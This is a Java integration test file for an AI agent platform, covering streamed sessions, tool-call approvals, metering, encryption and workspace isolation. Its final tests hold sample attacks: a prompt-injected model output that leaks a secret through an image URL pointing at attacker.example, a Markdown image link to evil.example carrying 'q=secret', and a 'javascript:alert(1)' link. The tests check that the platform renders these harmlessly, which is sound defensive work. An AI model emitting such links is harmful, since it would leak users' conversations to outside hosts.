package dev.custos.agent;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.stream.Collectors;

import dev.custos.platform.web.Markdown;
import dev.custos.support.ApiClient;
import dev.custos.support.FakeProviderTest;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** Agents run end to end over HTTP: streamed sessions, tool calls, approvals, review, sealing, isolation. */
class AgentSessionTest extends FakeProviderTest {

    private static String agents(UUID workspace) {
        return "/api/workspaces/" + workspace + "/agents";
    }

    private static String text(List<ApiClient.Event> events) {
        return events.stream().filter(event -> event.name().equals("text_delta"))
                .map(event -> event.data().path("content").path("text").asString()).collect(Collectors.joining());
    }

    private static List<String> kinds(List<ApiClient.Event> events) {
        return events.stream().map(ApiClient.Event::name).toList();
    }

    private UUID createAgent(SignedIn owner, UUID workspace, String model, List<String> tools, List<String> approvals) {
        var created = owner.client().post(agents(workspace), Map.of("name", "Helper", "instructions",
                "Be helpful.", "model", model, "tools", tools, "approvalTools", approvals, "redaction", false));
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        return UUID.fromString(created.text("id"));
    }

    /** A person, their workspace with a fresh provider on the fake allowed, and an agent on one of its models. */
    private record Fixture(SignedIn owner, UUID workspace, UUID agent) {
        String sessions() {
            return agents(workspace) + "/" + agent + "/sessions";
        }
    }

    private Fixture agentOnFake(String person, String model) {
        SignedIn owner = signUp(person);
        UUID workspace = createWorkspace(owner, person + "'s workspace");
        Registered provider = registerProvider("openai-compatible", fake.baseUrl(), true, model);
        allowProvider(owner, workspace, provider.id());
        return new Fixture(owner, workspace, createAgent(owner, workspace, provider.name() + "/" + model, List.of(),
                List.of()));
    }

    @Test
    @Tag("AI-08")
    @DisplayName("an agent's run is metered to its workspace, its person and its agent: tokens in and out, and "
            + "each tool call")
    void agentRunsAreMetered() {
        SignedIn owner = signUp("Metered Owner");
        UUID workspace = createWorkspace(owner, "Metered");
        Registered provider = registerProvider("openai-compatible", fake.baseUrl(), true, "tools");
        allowProvider(owner, workspace, provider.id());
        UUID agent = createAgent(owner, workspace, provider.name() + "/tools", List.of("calculator"), List.of());
        UUID quiet = createAgent(owner, workspace, "offline/scripted-demo", List.of(), List.of());
        runSession(owner, workspace, agent.toString(), "what is six times seven?");
        runSession(owner, workspace, quiet.toString(), "hello");

        String usage = "/api/workspaces/" + workspace + "/usage";
        JsonNode byAgent = owner.client().get(usage + "?by=agent").json().path("days");
        JsonNode toolAgent = byAgent.valueStream().filter(day -> day.path("key").asString().equals(agent.toString()))
                .findFirst().orElseThrow();
        assertThat(toolAgent.path("toolCalls").asLong()).isEqualTo(1);
        assertThat(toolAgent.path("calls").asLong()).as("one model call before the tool, one after").isEqualTo(2);
        assertThat(toolAgent.path("inputTokens").asLong()).isPositive();
        assertThat(toolAgent.path("outputTokens").asLong()).isPositive();
        JsonNode quietAgent = byAgent.valueStream().filter(day -> day.path("key").asString().equals(quiet.toString()))
                .findFirst().orElseThrow();
        assertThat(quietAgent.path("toolCalls").asLong()).isZero();
        JsonNode byPerson = owner.client().get(usage + "?by=person").json().path("days");
        assertThat(byPerson.size()).isEqualTo(1);
        assertThat(byPerson.path(0).path("key").asString()).isEqualTo(owner.personId().toString());
        assertThat(byPerson.path(0).path("toolCalls").asLong()).isEqualTo(1);
        assertThat(byPerson.path(0).path("calls").asLong()).isEqualTo(toolAgent.path("calls").asLong()
                + quietAgent.path("calls").asLong());
    }

    @Test
    @Tag("AI-01")
    @DisplayName("the demo workspace's agent runs offline, streamed, and the session keeps every message for review")
    void demoAgentStreamsOfflineAndIsReviewable() {
        SignedIn first = signUpAsInstallationAdmin("Demo Runner");
        JsonNode demo = first.client().get("/api/workspaces").json().get(0);
        UUID workspace = UUID.fromString(demo.path("id").asString());
        JsonNode agent = first.client().get(agents(workspace)).json().get(0);
        assertThat(agent.path("name").asString()).isEqualTo(DemoAgent.NAME);
        assertThat(agent.path("model").asString()).isEqualTo("offline/scripted-demo");

        var streamed = first.client().stream(agents(workspace) + "/" + agent.path("id").asString() + "/sessions",
                Map.of("message", "hello there"));
        assertThat(streamed.status()).isEqualTo(200);
        assertThat(streamed.headers().firstValue("Content-Type").orElseThrow()).startsWith("text/event-stream");
        List<ApiClient.Event> events = ApiClient.events(streamed.body());
        assertThat(kinds(events)).startsWith("user_message", "run_started").endsWith("assistant_message",
                "run_completed");
        assertThat(text(events)).startsWith("Hello! I am the offline demo model");
        assertThat(events).allSatisfy(event -> assertThat(Long.parseLong(event.id())).isPositive());

        String session = streamed.headers().firstValue("X-Custos-Session-Id").orElseThrow();
        JsonNode review = first.client().get(agents(workspace) + "/" + agent.path("id").asString() + "/sessions/"
                + session).json();
        assertThat(review.path("session").path("status").asString()).isEqualTo("idle");
        List<JsonNode> stored = review.path("events").valueStream().toList();
        assertThat(stored).extracting(event -> event.path("kind").asString())
                .containsExactly("user_message", "run_started", "assistant_message", "run_completed");
        assertThat(stored.get(0).path("content").path("text").asString()).isEqualTo("hello there");
        assertThat(stored.get(2).path("content").path("text").asString()).isEqualTo(text(events));
        assertThat(stored.get(2).path("meta").path("outputTokens").asLong()).isPositive();
    }

    @Test
    @Tag("AI-06")
    @Tag("AI-01")
    @DisplayName("a tool marked for approval pauses the run until a person decides; the decision and who made it "
            + "are stored and audited")
    void approvalPausesTheRun() {
        SignedIn owner = signUp("Approver");
        UUID workspace = createWorkspace(owner, "Approvals");
        UUID agent = createAgent(owner, workspace, "offline/scripted-demo", List.of("calculator"), List.of("calculator"));

        var first = owner.client().stream(agents(workspace) + "/" + agent + "/sessions",
                Map.of("message", "please calculate this"));
        List<ApiClient.Event> paused = ApiClient.events(first.body());
        assertThat(kinds(paused)).endsWith("assistant_message", "approval_requested");
        ApiClient.Event request = paused.getLast();
        String callId = request.data().path("meta").path("callId").asString();
        String session = first.headers().firstValue("X-Custos-Session-Id").orElseThrow();
        String base = agents(workspace) + "/" + agent + "/sessions/" + session;
        assertThat(owner.client().get(base).json().path("session").path("status").asString())
                .isEqualTo("awaiting_approval");
        assertThat(asOwner().sql("SELECT count(*) FROM session_events WHERE session_id = :s AND kind = 'tool_result'")
                .param("s", UUID.fromString(session)).query(Long.class).single()).as("nothing ran yet").isZero();

        SignedIn viewer = addMember(owner, workspace, "viewer", "Viewer");
        assertThat(viewer.client().post(base + "/approvals/" + callId, Map.of("approve", true)).status())
                .as("a viewer cannot decide").isEqualTo(403);

        var decided = owner.client().post(base + "/approvals/" + callId, Map.of("approve", true));
        assertThat(decided.status()).as(decided.body()).isEqualTo(200);
        var rest = owner.client().stream(base + "/events", null, "Last-Event-ID", request.id());
        List<ApiClient.Event> resumed = ApiClient.events(rest.body());
        assertThat(resumed).allSatisfy(event ->
                assertThat(Long.parseLong(event.id())).isGreaterThan(Long.parseLong(request.id())));
        assertThat(kinds(resumed)).startsWith("approval_decided", "tool_result").endsWith("run_completed");
        assertThat(resumed.get(1).data().path("content").path("text").asString()).isEqualTo("42");
        assertThat(text(resumed)).isEqualTo("The result is 42.");

        assertThat(asOwner().sql("SELECT status, decided_by FROM tool_approvals WHERE session_id = :s")
                .param("s", UUID.fromString(session))
                .query((rs, n) -> rs.getString(1) + "/" + rs.getObject(2)).single())
                .isEqualTo("approved/" + owner.personId());
        var audit = owner.client().get("/api/audit?workspaceId=" + workspace).json();
        assertThat(audit.valueStream().filter(entry -> entry.path("action").asString().equals("tool_call.approved"))
                .map(entry -> entry.path("actorId").asString()).toList()).containsExactly(owner.personId().toString());

        // Reviewed later (AI-01): the stored tool call with its arguments and its result, in the API and the page.
        List<JsonNode> review = owner.client().get(base).json().path("events").valueStream().toList();
        JsonNode call = review.stream().filter(event -> event.path("kind").asString().equals("assistant_message"))
                .flatMap(event -> event.path("content").path("toolCalls").valueStream()).findFirst().orElseThrow();
        assertThat(call.path("name").asString()).isEqualTo("calculator");
        assertThat(call.path("arguments").asString()).contains("6*7");
        assertThat(review.stream().filter(event -> event.path("kind").asString().equals("tool_result"))
                .map(event -> event.path("content").path("text").asString())).containsExactly("42");
        String page = org.springframework.web.util.HtmlUtils.htmlUnescape(owner.client().get("/workspaces/"
                + workspace + "/sessions/" + session, "Accept", "text/html").body());
        assertThat(page).contains("calculator", "6*7", "Approved: calculator")
                .containsPattern("(?s)Result</div>\\s*<pre>42</pre>");
    }

    @Test
    @Tag("AI-06")
    @DisplayName("a rejected tool call is never run (the file it would write is not there); the model is told a "
            + "person rejected it")
    void rejectedCallIsNotRun() {
        SignedIn owner = signUp("Rejecter");
        UUID workspace = createWorkspace(owner, "Rejections");
        UUID agent = createAgent(owner, workspace, "offline/scripted-demo", List.of("workspace_files"),
                List.of("workspace_files"));
        var first = owner.client().stream(agents(workspace) + "/" + agent + "/sessions",
                Map.of("message", "save a note please"));
        ApiClient.Event request = ApiClient.events(first.body()).getLast();
        String base = agents(workspace) + "/" + agent + "/sessions/"
                + first.headers().firstValue("X-Custos-Session-Id").orElseThrow();

        owner.client().post(base + "/approvals/" + request.data().path("meta").path("callId").asString(),
                Map.of("approve", false));
        List<ApiClient.Event> rest = ApiClient.events(owner.client().stream(base + "/events?after=" + request.id(),
                null).body());
        ApiClient.Event result = rest.stream().filter(event -> event.name().equals("tool_result")).findFirst()
                .orElseThrow();
        assertThat(result.data().path("meta").path("outcome").asString()).isEqualTo("rejected");
        assertThat(result.data().path("content").path("text").asString()).contains("rejected", "not run");
        assertThat(kinds(rest)).endsWith("run_completed");
        assertThat(asOwner().sql("SELECT count(*) FROM session_files WHERE workspace_id = :w").param("w", workspace)
                .query(Long.class).single()).as("the tool never ran").isZero();
        assertThat(owner.client().post(base + "/approvals/" + request.data().path("meta").path("callId").asString(),
                Map.of("approve", true)).problemType()).as("decided once").isEqualTo("/problems/no-pending-approval");
    }

    @Test
    @Tag("SC-02")
    @DisplayName("messages, instructions and tool results are AES-GCM ciphertext in the database")
    void contentAtRestIsSealed() {
        SignedIn owner = signUp("Sealer");
        UUID workspace = createWorkspace(owner, "Sealed");
        var created = owner.client().post(agents(workspace), Map.of("name", "Secretive", "instructions",
                "Instructions with a marker QUOKKA-INSTRUCTIONS", "model", "offline/scripted-demo",
                "tools", List.of("datetime")));
        assertThat(created.status()).as(created.body()).isEqualTo(201);
        UUID agent = UUID.fromString(created.text("id"));
        var streamed = owner.client().stream(agents(workspace) + "/" + agent + "/sessions",
                Map.of("message", "What time is it? marker QUOKKA-MESSAGE"));
        assertThat(kinds(ApiClient.events(streamed.body()))).contains("tool_result").endsWith("run_completed");

        List<byte[]> stored = asOwner().sql("SELECT content FROM session_events WHERE workspace_id = :ws "
                        + "AND content IS NOT NULL").param("ws", workspace).query((rs, n) -> rs.getBytes(1)).list();
        stored.add(asOwner().sql("SELECT instructions FROM agents WHERE agent_id = :a").param("a", agent)
                .query((rs, n) -> rs.getBytes(1)).single());
        assertThat(stored).hasSizeGreaterThanOrEqualTo(5).allSatisfy(bytes -> {
            String raw = new String(bytes, StandardCharsets.ISO_8859_1);
            assertThat(raw).doesNotContain("QUOKKA").doesNotContain("right now").doesNotContain("UTC");
            assertThat(bytes.length).as("Tink prefix + 12-byte nonce + 16-byte tag").isGreaterThan(5 + 12 + 16);
        });
        assertThat(asOwner().sql("SELECT meta::text FROM session_events WHERE workspace_id = :ws")
                .param("ws", workspace).query(String.class).list()).noneMatch(meta -> meta.contains("QUOKKA"));
    }

    @Test
    @Tag("AI-01")
    @DisplayName("the same agent runs on real provider wire formats (OpenAI-compatible and Anthropic) with a tool "
            + "call that needs approval")
    void runsOnFakeProvidersWithApproval() {
        SignedIn owner = signUp("Provider User");
        UUID workspace = createWorkspace(owner, "Providers");
        for (String kind : List.of("openai-compatible", "anthropic")) {
            Registered provider = registerProvider(kind, fake.baseUrl(), true, "tools");
            allowProvider(owner, workspace, provider.id());
            UUID agent = createAgent(owner, workspace, provider.name() + "/tools", List.of("calculator"),
                    List.of("calculator"));
            var first = owner.client().stream(agents(workspace) + "/" + agent + "/sessions",
                    Map.of("message", "What is 6*7?"));
            List<ApiClient.Event> paused = ApiClient.events(first.body());
            assertThat(kinds(paused)).as(kind).endsWith("approval_requested");
            String base = agents(workspace) + "/" + agent + "/sessions/"
                    + first.headers().firstValue("X-Custos-Session-Id").orElseThrow();
            owner.client().post(base + "/approvals/" + paused.getLast().data().path("meta").path("callId").asString(),
                    Map.of("approve", true));
            List<ApiClient.Event> rest = ApiClient.events(owner.client().stream(base + "/events?after="
                    + paused.getLast().id(), null).body());
            assertThat(text(rest)).as(kind).isEqualTo("The result is 42.");
            JsonNode sent = fake.lastReceived().body();
            assertThat(sent.toString()).as(kind + ": the tool result went back to the provider").contains("42");
        }
    }

    @Test
    @DisplayName("a provider that keeps failing ends the run with a clear failure, retried a bounded number of "
            + "times and metered never")
    void providerFailureEndsTheRun() {
        Fixture fixture = agentOnFake("Failure", "rate-limited");
        int before = fake.received().size();

        List<ApiClient.Event> events = ApiClient.events(fixture.owner().client().stream(fixture.sessions(),
                Map.of("message", "hi")).body());
        ApiClient.Event failed = events.getLast();
        assertThat(failed.name()).isEqualTo("run_failed");
        assertThat(failed.data().path("meta").path("reason").asString()).contains("HTTP 429");
        assertThat(fake.received().size() - before).as("three attempts").isEqualTo(3);
        assertThat(asOwner().sql("SELECT count(*) FROM usage_records WHERE workspace_id = :ws")
                .param("ws", fixture.workspace()).query(Long.class).single()).isZero();
    }

    @Test
    @DisplayName("a run can be cancelled while the model streams")
    void cancelWhileStreaming() {
        Fixture fixture = agentOnFake("Canceller", "slow");
        SignedIn owner = fixture.owner();
        var started = owner.client().post(fixture.sessions(),
                Map.of("message", "a long answer please, with many many words in it"));
        assertThat(started.status()).as(started.body()).isEqualTo(201);
        String base = fixture.sessions() + "/" + started.text("id");
        await().until(() -> owner.client().get(base).json().path("events").valueStream()
                .anyMatch(event -> event.path("kind").asString().equals("run_started")));
        assertThat(owner.client().post(base + "/cancel", null).status()).isEqualTo(202);
        List<ApiClient.Event> events = ApiClient.events(owner.client().stream(base + "/events", null).body());
        assertThat(kinds(events)).endsWith("run_cancelled").doesNotContain("assistant_message");
        assertThat(owner.client().get(base).json().path("session").path("status").asString()).isEqualTo("idle");
    }

    @Test
    @DisplayName("a run whose node died is resumed at once by a live node from the stored events, and metered once")
    void abandonedRunIsResumed() {
        Fixture fixture = agentOnFake("Resumer", "slow");
        SignedIn owner = fixture.owner();
        var started = owner.client().post(fixture.sessions(), Map.of("message", "resume me"));
        UUID session = UUID.fromString(started.text("id"));
        await().until(() -> asOwner().sql("SELECT count(*) FROM run_leases WHERE session_id = :s").param("s", session)
                .query(Long.class).single() == 1);
        await().until(() -> asOwner().sql("SELECT count(*) FROM session_events WHERE session_id = :s "
                + "AND kind = 'text_delta'").param("s", session).query(Long.class).single() > 0);
        // The node "dies" while its text streams: its lease, just renewed, now belongs to a node that holds no
        // liveness lock. The thread that was running it notices at its next write and stops; a live node takes
        // the run over once the lease has gone two seconds unrenewed, not when it lapses in two minutes.
        asOwner().sql("UPDATE run_leases SET lease_owner = :dead WHERE session_id = :s")
                .param("dead", UUID.randomUUID()).param("s", session).update();

        String base = fixture.sessions() + "/" + session;
        await().atMost(java.time.Duration.ofSeconds(30)).until(() ->
                owner.client().get(base).json().path("session").path("status").asString().equals("idle"));
        List<JsonNode> events = owner.client().get(base).json().path("events").valueStream().toList();
        assertThat(events).extracting(event -> event.path("kind").asString())
                .containsExactly("user_message", "run_started", "assistant_message", "run_completed");
        assertThat(events.get(2).path("content").path("text").asString()).isEqualTo("You said: resume me");

        // A follower replaying the whole stream is told where the cut-off attempt's words end, so it shows the
        // answer once: the text after the last restart mark is the whole answer.
        List<ApiClient.Event> replayed = ApiClient.events(owner.client().stream(base + "/events", null,
                "Last-Event-ID", "0").body());
        assertThat(kinds(replayed)).contains("step_restarted");
        int restart = kinds(replayed).lastIndexOf("step_restarted");
        assertThat(text(replayed.subList(0, restart))).as("the cut-off attempt streamed").isNotEmpty();
        assertThat(text(replayed.subList(restart, replayed.size()))).isEqualTo("You said: resume me");
        assertThat(asOwner().sql("SELECT count(*) FROM usage_records WHERE session_id = :s").param("s", session)
                .query(Long.class).single()).isEqualTo(1);
    }

    @Test
    @Tag("TN-01")
    @DisplayName("agents and sessions of one workspace are invisible from another, by session or API key")
    void crossWorkspace() {
        SignedIn alice = signUp("Alice Agents");
        UUID a = createWorkspace(alice, "A");
        UUID agent = createAgent(alice, a, "offline/scripted-demo", List.of(), List.of());
        var started = alice.client().post(agents(a) + "/" + agent + "/sessions", Map.of("message", "hello"));
        String base = agents(a) + "/" + agent + "/sessions/" + started.text("id");

        SignedIn mallory = signUp("Mallory Agents");
        UUID m = createWorkspace(mallory, "M");
        String key = createApiKey(mallory, m, "read", "write");
        for (ApiClient outsider : List.of(mallory.client(), ApiClient.withApiKey(port, key))) {
            assertThat(outsider.get(agents(a)).status()).isEqualTo(404);
            assertThat(outsider.get(agents(a) + "/" + agent).status()).isEqualTo(404);
            assertThat(outsider.put(agents(a) + "/" + agent, Map.of("name", "x", "instructions", "x",
                    "model", "offline/scripted-demo")).status()).isEqualTo(404);
            assertThat(outsider.delete(agents(a) + "/" + agent).status()).isEqualTo(404);
            assertThat(outsider.post(agents(a), Map.of("name", "x", "instructions", "x",
                    "model", "offline/scripted-demo")).status()).isEqualTo(404);
            assertThat(outsider.get(agents(a) + "/" + agent + "/sessions").status()).isEqualTo(404);
            assertThat(outsider.get(base).status()).isEqualTo(404);
            assertThat(outsider.stream(base + "/events", null).status()).isEqualTo(404);
            assertThat(outsider.post(base + "/messages", Map.of("message", "hi")).status()).isEqualTo(404);
            assertThat(outsider.post(base + "/cancel", null).status()).isEqualTo(404);
            assertThat(outsider.post(base + "/approvals/call_1", Map.of("approve", true)).status()).isEqualTo(404);
            assertThat(outsider.post(agents(a) + "/" + agent + "/sessions", Map.of("message", "x")).status())
                    .isEqualTo(404);
        }
        // Even inside their own workspace, Mallory cannot reach Alice's agent or session by its id.
        assertThat(mallory.client().get(agents(m) + "/" + agent).status()).isEqualTo(404);
        assertThat(mallory.client().get(agents(m) + "/" + agent + "/sessions/" + started.text("id")).status())
                .isEqualTo(404);
        assertThat(alice.client().get(agents(a) + "/" + agent).status()).as("still there").isEqualTo(200);
    }

    @Test
    @DisplayName("an image in a model's answer is shown as a link to confirm, never fetched, and the page's policy "
            + "loads images from Custos alone")
    void imagesInModelOutputAreNotFetched() {
        // A prompt-injected model answers with an image whose address carries the conversation to another host.
        Fixture fixture = agentOnFake("Hostile Output", "exfiltrate");
        SignedIn owner = fixture.owner();
        UUID workspace = fixture.workspace();
        String session = runSession(owner, workspace, fixture.agent().toString(), "my secret is WOMBAT-7");
        String sessionId = session.substring(session.lastIndexOf('/') + 1);

        var page = owner.client().get("/workspaces/" + workspace + "/sessions/" + sessionId + "/transcript",
                "Accept", "text/html");
        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body()).contains("Image not loaded", "attacker.example").doesNotContain("<img");
        String csp = page.headers().firstValue("Content-Security-Policy").orElseThrow();
        assertThat(csp).contains("img-src 'self' data:;").doesNotContain("https:");
    }

    @Test
    @DisplayName("Markdown images become links with the host named; links never carry the referrer")
    void markdownImagesBecomeLinks() {
        var markdown = new Markdown();
        String html = markdown.html("![chart](https://evil.example/x.png?q=secret) and [docs](https://ok.example)");
        assertThat(html).doesNotContain("<img").contains("Image not loaded: chart", "(open from evil.example)",
                "href=\"https://evil.example/x.png?q=secret\"", "rel=\"nofollow noopener noreferrer\"");
        assertThat(markdown.html("![x](javascript:alert(1))")).doesNotContain("javascript:");
    }
}
